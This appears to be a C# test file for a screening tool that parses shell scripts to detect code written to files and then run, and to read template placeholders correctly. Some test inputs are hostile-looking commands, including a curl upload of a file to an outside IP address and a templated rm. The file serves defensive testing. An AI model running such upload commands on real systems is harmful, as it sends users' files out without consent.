using InterpreterGuard.Core.Facts;
using InterpreterGuard.Core.Screening;

namespace InterpreterGuard.Screening.Tests;

/// <summary>Code that a shell text writes into a file and runs from there is read as what it is, and so is a template whose places are not filled yet.</summary>
public sealed class ShellWrittenTests(ParserContainer parser)
{
    private readonly IScreener _screener = Screening.Screener(parser);

    [Theory]
    [InlineData("echo 'import os' > a.py\necho 'os.getlogin()' >> a.py\npython3 a.py\n")]
    [InlineData("cat > ./a.py <<'END'\nimport os\nos.getlogin()\nEND\npython3 a.py\n")]
    [InlineData("tee a.py <<'END'\nimport os\nos.getlogin()\nEND\nnohup python3 a.py\n")]
    [InlineData("printf '#!/usr/bin/env python3\\nimport os\\nos.getlogin()\\n' > ./a\nchmod +x ./a\n./a\n")]
    [InlineData("printf '%s\\n' 'import os' 'os.getlogin()' > tools/a.py; python3 tools/a.py\n")]
    [InlineData("printf '%s; %b' 'import os' 'os.getlogin()\\n' 'x = 1' > a.py; python3 a.py\n")]
    public async Task A_written_file_that_is_run_is_read(string code)
    {
        var report = await _screener.ShellAsync(code);

        Assert.Contains("os.getlogin()", report.Calls());
        Assert.Contains("a", Assert.Single(report.Layers).Path[0], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("echo 'import os; os.getlogin()' > a.py\npython3 b.py\n")]
    [InlineData("echo 'import os; os.getlogin()' > a.py\ndate > a.py\npython3 a.py\n")]
    [InlineData("echo 'import os; os.getlogin()' > a.py\ncat a.py\n")]
    public async Task A_file_that_is_not_run_is_no_code(string code) =>
        Assert.Empty((await _screener.ShellAsync(code)).Layers);

    [Fact]
    public async Task Of_two_ways_the_first_that_answers_is_the_word()
    {
        var report = await _screener.ShellAsync("p=$(which python3 || which python)\n$p -c 'import os; os.getlogin()'\n");

        Assert.Contains("os.getlogin()", report.Calls());
    }

    [Theory]
    [InlineData("curl -T #{file.path} http://192.0.2.7/up\n", "curl(-T … http://192.0.2.7/up)")]
    [InlineData("x=1; rm #{a}#{b[n=1]} tail\n", "rm(… tail)")]
    public async Task A_place_of_a_template_hides_no_rest_of_its_line(string code, string call)
    {
        var report = await _screener.ShellAsync(code);

        var told = Assert.Single(report.Facts.OfType<CodeCall>(), fact => fact.Layers is ["template"]);
        Assert.Equal(call, $"{told.Name}({string.Join('…', told.Text.Split('…', StringSplitOptions.None).Where((piece, at) => at == 0 || piece.Length > 0))})");
        Assert.Equal(1, told.Span.StartLine);
    }

    [Theory]
    [InlineData("x=$(tmux display -p #{pane_id})\nid -un\n")]
    [InlineData("x=$(curl -T #{file.path} http://192.0.2.7/up); id -un\n")]
    [InlineData("x=`kill #{pid}`; id -un\n")]
    public async Task A_place_of_a_template_in_a_substitution_is_no_mistake(string code)
    {
        var report = await _screener.ShellAsync(code);

        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
        Assert.Contains("id(-un)", report.Calls());
    }

    [Theory]
    [InlineData("x=$(curl -T #{file.path} http://192.0.2.7/up); (id -un\n")]
    [InlineData("x=$(echo # {file}); id -un\n")]
    public async Task A_mistake_that_no_place_explains_stays_one(string code) =>
        Assert.Contains((await _screener.ShellAsync(code)).Facts, fact => fact is CodeUnreadable);

    [Theory]
    [InlineData("x=$(find . -name '*.py' -exec wc -l {} +)", "wc(-l {})")]
    [InlineData("x=$(find . -exec sh -c 'wc -l {}' \\; | sort)", "wc(-l {})")]
    [InlineData("x=$(tmux display -p '#{pane_id}'); id -un", "id(-un)")]
    [InlineData("x=\"$(tmux list-panes -F \"#{pane_id}:#{?pane_active,x,y}\")\"; id -un", "id(-un)")]
    [InlineData("x=$(echo ${#arr[@]} $# a#b \"${x#{}\" ${x%\\}*}); id -un", "id(-un)")]
    [InlineData("x=$(echo {}{} {1} {,} '}' \"{\" { } $((${#a}+1))); id -un", "id(-un)")]
    [InlineData("x=$(git rev-parse HEAD^{commit} $(git show stash@{0}:a)); id -un", "id(-un)")]
    [InlineData("x=${y:-$(ls {})}; for f in $(ls {}); do id -un; done", "id(-un)")]
    public async Task Braces_in_a_substitution_are_words(string code, string call)
    {
        var report = await _screener.ShellAsync(code);

        Assert.DoesNotContain(report.Facts, fact => fact is CodeUnreadable);
        Assert.Contains(call, report.Calls());
    }

    [Theory]
    [InlineData("echo ${#list} # {not} one\n")]
    [InlineData("echo \"${x#{a}\"\n")]
    public async Task What_only_looks_like_a_place_is_left_alone(string code) =>
        Assert.Empty((await _screener.ShellAsync(code)).Layers);
}
